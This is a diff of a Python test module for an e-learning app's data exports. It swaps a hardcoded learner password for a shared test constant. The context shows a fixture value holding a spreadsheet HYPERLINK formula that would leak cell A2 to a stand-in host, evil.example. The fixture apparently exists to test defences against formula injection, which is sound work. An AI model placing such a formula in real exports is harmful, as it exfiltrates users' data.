@@ -28,7 +28,7 @@ from elearn.people.services import PersonData, create_user, upsert_unit
 
 from ..admin.test_exports import SOFFICE, soffice_to_csv
 from ..certificates.conftest import complete_course
-from ..conftest import AuthActions
+from ..conftest import PASSWORD, AuthActions
 from ..content.helpers import make_course
 
 LINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Klik")'
@@ -151,7 +151,7 @@ def hostile_data(app):
         upsert_unit("DISKOMINFO", "Dinas Kominfo")
         user = create_user(PersonData(nip=LEARNER, full_name="Andi", unit_code="DISKOMINFO",
                                       position="Staf", grade="III/a"),
-                           "rahasia-123", must_change_password=False)
+                           PASSWORD, must_change_password=False)
         course = save_course(make_course()).course
         db.session.commit()
         complete_course(user.id, course.id)
